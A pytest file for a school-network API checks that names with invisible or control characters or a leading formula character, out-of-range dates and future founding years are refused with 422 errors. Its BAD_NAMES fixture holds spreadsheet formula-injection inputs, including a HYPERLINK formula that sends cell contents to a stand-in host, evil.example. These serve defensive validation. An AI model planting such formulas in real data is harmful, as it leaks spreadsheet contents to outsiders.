"""Names, dates and the year of founding through the API: a name with invisible or control
characters or beginning with a formula character, a date outside 1900–2100 and a founding
year in the future are 422 problems naming the field, never a 500 nor a stored value."""

from __future__ import annotations

import pytest

from setka.network.models import Institution, Person

from ..clock import TODAY
from .conftest import assert_problem, table_counts

BAD_NAMES = {
    "zero_width_space": "Ива\u200bнова",
    "right_to_left_override": "\u202eавонавИ",
    "left_to_right_mark": "Иванова\u200e",
    "bom": "\ufeffИванова",
    "control_character": "Ива\x07нова",
    "line_separator": "Ива\u2028нова",
    "formula": "=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Жмите")',
    "plus": "+Иванова",
    "minus": "-Иванова",
    "at": "@SUM(A1)",
}


def _person(**names):
    return {"surname": "Новикова", "given_name": "Ирина", **names}


def _codes(response) -> list[tuple[str | None, str]]:
    return [(e["field"], e["code"]) for e in response.json()["errors"]]


@pytest.mark.parametrize("name", list(BAD_NAMES))
@pytest.mark.parametrize("field", ["surname", "given_name", "patronymic"])
def test_member_create_refuses_a_bad_name(api, world, field, name):
    before = table_counts()
    body = {"person": _person(**{field: BAD_NAMES[name]}), "role": "teacher"}

    response = api.as_("director").post(f"/institutions/{world.school.pk}/members", body)

    assert_problem(response, 422)
    assert [f for f, _code in _codes(response)] == [f"person.{field}"]
    assert table_counts() == before


def test_bad_name_messages(api, world):
    url = f"/institutions/{world.school.pk}/members"
    client = api.as_("director")

    invisible = client.post(url, {"person": _person(surname="\u202eИванова"), "role": "teacher"})
    formula = client.post(url, {"person": _person(surname="=1+1"), "role": "teacher"})
    russian = client.post(url, {"person": _person(surname="=1+1"), "role": "teacher"}, lang="ru")

    assert invisible.json()["errors"][0]["message"] == (
        "The name contains an invisible or control character (such as a zero-width space or a "
        "right-to-left mark), perhaps copied along with it. Type the name again."
    )
    assert _codes(invisible) == [("person.surname", "name_invisible_character")]
    assert formula.json()["errors"][0]["message"] == (
        "A name cannot begin with “=”, “+”, “-” or “@”."
    )
    assert _codes(formula) == [("person.surname", "name_formula")]
    assert russian.json()["errors"][0]["message"] == (
        "Имя не может начинаться с «=», «+», «-» или «@»."
    )


@pytest.mark.parametrize("name", ["Мамин-Сибиряк", "д'Артаньян", "O'Neil", "Анна-Мария", "Ли"])
def test_member_create_takes_real_names(api, world, name):
    body = {"person": _person(surname=name), "role": "teacher"}

    response = api.as_("director").post(f"/institutions/{world.school.pk}/members", body)

    assert response.status_code == 201, response.content


@pytest.mark.parametrize("name", ["hyperlink", "right_to_left_override"])
def test_person_update_refuses_a_bad_name(api, world, name):
    teacher = world.people["teacher"]

    response = api.as_("director").patch(f"/people/{teacher.pk}", {"surname": BAD_NAMES[name]})

    assert_problem(response, 422)
    assert [f for f, _code in _codes(response)] == ["surname"]
    assert Person.objects.get(pk=teacher.pk).surname == teacher.surname


def test_guardian_create_refuses_a_bad_name(api, world):
    student = world.people["student"]
    before = table_counts()

    response = api.as_("director").post(
        f"/people/{student.pk}/guardians",
        {"guardian": _person(surname="@Иванова"), "kind": "mother"},
    )

    assert_problem(response, 422)
    assert [f for f, _code in _codes(response)] == ["guardian.surname"]
    assert table_counts() == before


# --- dates: 1900–2100 -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "field"),
    [("from=9999-12-31", "from"), ("from=0001-01-01", "from"), ("to=9999-12-31", "to"),
     ("from=1899-12-31", "from"), ("from=2101-01-01", "from")],
)  # fmt: skip
def test_diary_dates_outside_the_years_are_422(api, world, query, field):
    student = world.people["student"]

    response = api.as_("student").get(f"/journal/students/{student.pk}/diary?{query}")

    body = assert_problem(response, 422)
    assert _codes(response) == [(field, "date_out_of_range")]
    assert body["errors"][0]["message"] == "Enter a date between the years 1900 and 2100."


def test_diary_date_error_in_russian(api, world):
    student = world.people["student"]

    response = api.as_("student").get(
        f"/journal/students/{student.pk}/diary?from=9999-12-31", lang="ru"
    )

    assert assert_problem(response, 422)["errors"][0]["message"] == (
        "Введите дату между 1900 и 2100 годами."
    )


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/institutions/{school}/members",
         {"person": {"surname": "А", "given_name": "Б", "birth_date": "0001-01-01"},
          "role": "student"}, "person.birth_date"),
        ("/institutions/{school}/members",
         {"person_id": "{teacher}", "role": "staff", "starts_on": "9999-12-31"}, "starts_on"),
        ("/people/{teacher}", {"birth_date": "9999-12-31"}, "birth_date"),
        ("/memberships/{membership}", {"ends_on": "9999-12-31"}, "ends_on"),
    ],
)  # fmt: skip
def test_network_dates_outside_the_years_are_422(api, world, path, body, field):
    ids = {
        "school": world.school.pk,
        "teacher": world.people["teacher"].pk,
        "membership": world.people["teacher"].memberships.get().pk,
    }
    body = {k: (int(v.format(**ids)) if v == "{teacher}" else v) for k, v in body.items()}
    method = "post" if path.endswith("members") else "patch"
    before = table_counts()

    response = getattr(api.as_("director"), method)(path.format(**ids), body)

    assert_problem(response, 422)
    assert _codes(response) == [(field, "date_out_of_range")]
    assert table_counts() == before


# --- the year of founding ---------------------------------------------------------------------

NEW = {"kind": "school", "full_name": "Новая школа", "short_name": "Новая"}


@pytest.mark.parametrize("founded", ["3000-01-01", f"{TODAY.year + 1}-01-01", "1699-12-31"])
def test_institution_founded_outside_the_years_is_422(api, world, founded):
    before = table_counts()

    created = api.as_("admin").post("/institutions", {**NEW, "founded_on": founded})
    changed = api.as_("admin").patch(f"/institutions/{world.school.pk}", {"founded_on": founded})

    for response in (created, changed):
        assert_problem(response, 422)
        assert [e["field"] for e in response.json()["errors"]] == ["founded_on"]
    assert table_counts() == before


def test_institution_founded_in_the_future_message(api, world):
    response = api.as_("admin").post("/institutions", {**NEW, "founded_on": "3000-01-01"})

    assert response.json()["errors"][0]["message"] == (
        f"The date of founding cannot be after this year ({TODAY.year})."
    )


@pytest.mark.parametrize("founded", ["1701-09-01", "1934-09-01", f"{TODAY.year}-12-31"])
def test_institution_founded_in_the_past_or_this_year_is_taken(api, world, founded):
    response = api.as_("admin").post("/institutions", {**NEW, "founded_on": founded})

    assert response.status_code == 201, response.content
    assert str(Institution.objects.get(pk=response.json()["id"]).founded_on) == founded
